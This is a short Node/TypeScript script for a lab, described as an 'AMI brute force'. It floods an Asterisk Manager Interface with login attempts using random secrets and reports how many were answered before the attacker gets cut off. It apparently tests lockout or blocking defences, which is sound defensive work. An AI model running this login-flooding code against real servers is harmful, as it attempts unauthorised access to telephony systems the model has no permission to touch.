#!/usr/bin/env node
// AMI brute force for the lab: `ami-attack HOST PORT COUNT USER [FROM]` tries COUNT logins as
// USER with random secrets, one TCP connection each, and prints one JSON summary line:
// how many logins Asterisk answered and how many attempts got no answer (dropped). It stops
// after three unanswered attempts in a row: the attacker is cut off.
import net from 'node:net';
import { randomBytes } from 'node:crypto';

const [host, port, count, user, from] = process.argv.slice(2);
if (!host || !port || !count || !user) {
  process.stderr.write('usage: ami-attack HOST PORT COUNT USER [FROM]\n');
  process.exit(2);
}

function attempt(): Promise<'answered' | 'unanswered'> {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port: Number(port), ...(from ? { localAddress: from } : {}) });
    let buffer = '';
    const done = (r: 'answered' | 'unanswered') => {
      clearTimeout(timer);
      socket.destroy();
      resolve(r);
    };
    // Asterisk answers a failed login only after a 1 s penalty.
    const timer = setTimeout(() => done('unanswered'), 2500);
    socket.on('error', () => done('unanswered'));
    socket.on('data', (d) => {
      buffer += d.toString('utf8');
      if (buffer.includes('Asterisk Call Manager') && !buffer.includes('Action sent')) {
        buffer += 'Action sent';
        socket.write(`Action: Login\r\nUsername: ${user}\r\nSecret: ${randomBytes(6).toString('hex')}\r\n\r\n`);
      }
      if (/Response: (Error|Success)/.test(buffer)) done('answered');
    });
  });
}

let answered = 0;
let unanswered = 0;
let inARow = 0;
for (let i = 0; i < Number(count) && inARow < 3; i++) {
  if ((await attempt()) === 'answered') {
    answered++;
    inARow = 0;
  } else {
    unanswered++;
    inARow++;
  }
}
process.stdout.write(`${JSON.stringify({ answered, unanswered })}\n`);
